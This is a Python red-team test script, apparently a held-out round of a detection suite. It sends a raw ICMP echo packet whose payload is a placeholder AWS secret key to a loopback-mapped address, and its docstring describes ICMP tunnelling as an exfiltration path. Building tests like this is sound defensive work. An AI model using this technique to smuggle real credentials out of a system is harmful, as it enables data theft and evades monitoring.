"""Round 3: an ICMP echo request carrying the payload, sent on a raw socket to a new address.

ICMP tunnels are a classic exfiltration path: no port, no connect, no UDP or
TCP socket; the data rides in the echo payload.
"""

from __future__ import annotations

import socket
import struct
from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 3
EXPECT = ("L4",)


def run(args: dict[str, Any]) -> None:
    ip = rt.loopback(args["dest"]["ip"])
    payload = b"AWS_SECRET_ACCESS_KEY=h7redteamround3" * 8
    hdr = struct.pack("!BBHHH", 8, 0, 0, 0x4837, 1)
    pkt = struct.pack("!BBHHH", 8, 0, rt.inet_checksum(hdr + payload), 0x4837, 1) + payload
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        t = rt.now()
        n = s.sendto(pkt, (ip, 0))
    rt.report(t, n == len(pkt), f"raw ICMP echo with {len(payload)} payload bytes to {ip}: {n}")


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
